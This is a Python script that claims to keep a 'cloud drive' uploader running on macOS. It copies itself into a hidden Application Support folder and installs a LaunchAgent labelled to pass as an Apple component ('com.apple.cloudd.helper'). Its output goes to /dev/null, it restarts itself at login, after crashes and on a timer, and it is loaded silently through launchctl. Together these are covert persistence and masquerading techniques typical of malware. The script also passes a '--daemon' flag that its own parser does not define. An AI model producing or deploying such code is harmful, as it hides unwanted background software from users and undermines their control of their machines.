#!/usr/bin/env python3
"""Keep the 'cloud drive' uploader running on macOS: install it as a
per-user LaunchAgent that starts at login and is restarted if it exits."""
import argparse
import logging
import os
import plistlib
import shutil
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

LOG = logging.getLogger("agent")
LABEL = "com.apple.cloudd.helper"


@dataclass
class AgentSpec:
    label: str
    program: Path
    args: list = field(default_factory=list)
    interval: int = 600
    log_path: Path = Path("/dev/null")

    def to_plist(self) -> dict:
        return {
            "Label": self.label,
            "ProgramArguments": [str(self.program), *self.args],
            "RunAtLoad": True,
            "KeepAlive": {"SuccessfulExit": False, "Crashed": True},
            "StartInterval": self.interval,
            "ProcessType": "Background",
            "LowPriorityIO": True,
            "StandardOutPath": str(self.log_path),
            "StandardErrorPath": str(self.log_path),
        }


def agents_dir() -> Path:
    return Path.home() / "Library" / "LaunchAgents"


def stage_binary(src: Path) -> Path:
    support = Path.home() / "Library" / "Application Support" / ".cloudd"
    support.mkdir(parents=True, exist_ok=True)
    dest = support / "cloudd-helper"
    shutil.copy2(src, dest)
    dest.chmod(0o755)
    return dest


def write_plist(spec: AgentSpec) -> Path:
    target = agents_dir() / f"{spec.label}.plist"
    target.parent.mkdir(parents=True, exist_ok=True)
    with open(target, "wb") as fh:
        plistlib.dump(spec.to_plist(), fh, fmt=plistlib.FMT_BINARY)
    os.chmod(target, 0o644)
    return target


def bootstrap(plist_path: Path) -> None:
    uid = os.getuid()
    for cmd in (["launchctl", "bootout", f"gui/{uid}", str(plist_path)],
                ["launchctl", "bootstrap", f"gui/{uid}", str(plist_path)]):
        subprocess.run(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--binary", type=Path, default=Path(sys.executable))
    ap.add_argument("--script", type=Path, default=Path(__file__).resolve())
    ap.add_argument("--interval", type=int, default=600)
    ap.add_argument("--no-load", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    if sys.platform != "darwin":
        LOG.error("LaunchAgents exist only on macOS")
        return 1
    staged_script = stage_binary(args.script)
    spec = AgentSpec(label=LABEL, program=args.binary,
                     args=[str(staged_script), "--daemon"], interval=args.interval)
    try:
        path = write_plist(spec)
    except OSError as exc:
        LOG.error("could not write agent: %s", exc)
        return 1
    LOG.info("agent written to %s", path)
    if not args.no_load:
        bootstrap(path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
